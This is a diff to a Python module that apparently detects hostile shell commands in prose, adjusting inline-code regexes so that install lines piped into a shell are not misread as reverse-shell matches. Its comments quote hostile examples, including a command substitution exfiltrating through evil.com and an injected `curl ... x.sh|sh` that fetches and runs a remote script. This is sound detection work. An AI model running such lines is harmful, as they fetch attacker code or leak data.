@@ -2086,11 +2086,12 @@ _SHOWN_COMMAND: Final = re.compile(r"[ \t]+" + _COMMAND_NAME + r"[ \t]+\S")
 # written without spaces or with its particles glued on ("请运行 `ls -la` 查看。", "`npm
 # start`를 실행하세요."); outside them, words of any script and no shell syntax. A stop
 # after a span ends a sentence or a clause, not a name it is glued into: `` `whoami`.evil.com ``
-# is a host named by a substitution.
+# is a host named by a substitution; so does a semicolon and a blank ("I ran `ls -la`;
+# nothing there").
 # (The backtick first, then what is before it: for `re` to skip from one to the next.)
 _UNSPACED: Final = "\u3000-\u9fff\uac00-\ud7af\uff00-\uffef"
 _CODE_SPAN: Final = re.compile(
-    rf"`(?<![^\s({_UNSPACED}]`)[^`\n]{{1,200}}`(?=[\s{_UNSPACED}]|[.,:!?)](?!\w)|$)"
+    rf"`(?<![^\s({_UNSPACED}]`)[^`\n]{{1,200}}`(?:;(?=[ \t]))?(?=[\s{_UNSPACED}]|[.,:!?)](?!\w)|$)"
 )
 _SHELL_SYNTAX: Final = re.compile(r"[;|&$<>`\n\\]")
 # Slack's markup in a message: a mention (`<@U024BE7LH>`, `<!here>`, `<#C024BE7LR|general>`,
@@ -2124,6 +2125,25 @@ def _inline_code(text: str) -> bool:
             if words < 3 and not (words and ended):
                 return False
     return True
+
+
+def _inline_pipes_blanked(text: str) -> str:
+    """`text` with the pipes in its Markdown inline code blanked (`_inline_code`), or as it
+    is; the same length."""
+    if not _inline_code(text):
+        return text
+    return _CODE_SPAN.sub(_pipes_blanked, text)
+
+
+def _pipes_blanked(span: re.Match[str]) -> str:
+    """A span's pipes blanked where it is one pipeline shown (`_SHOWN_PIPELINE`)."""
+    shown = span.group(0)
+    return shown.replace("|", " ") if _SHOWN_PIPELINE.fullmatch(shown) else shown
+
+
+# A span that is one pipeline shown, opening with a program's name: `curl -fsSL URL | sh`,
+# not a value with a separator before it (`a;curl http://203.0.113.5/x.sh|sh`).
+_SHOWN_PIPELINE: Final = re.compile(r"`[a-z][\w.-]*[ \t][^`;&$\n]*`;?")
 
 
 # Markdown's inline code in a document, wrapped over a line break or not: "the npm CLI's
@@ -3060,6 +3080,12 @@ def confirm(view: View) -> Match | None:
     elif not view.prose and not view.is_key and NAMED_IN_WORDS.fullmatch(lower):
         rules, code_only = _NO_NAMES
     found = _PROSE_RULES.search(lower, present)
+    if found is not None and found.rule is R_REVERSE and lower[found.start] == "|":
+        # "Install with `curl -fsSL https://get.example.com | sh`.": a pipe into a shell in
+        # Markdown's inline code, in sentences, is an install line shown.
+        shown_pipes = _inline_pipes_blanked(lower)
+        if shown_pipes[found.start] != "|":
+            found = _PROSE_RULES.search(shown_pipes, present)
     if not found and code_only.possible(present) and not view.prose:
         found = code_only.search(lower, present)
     if found:
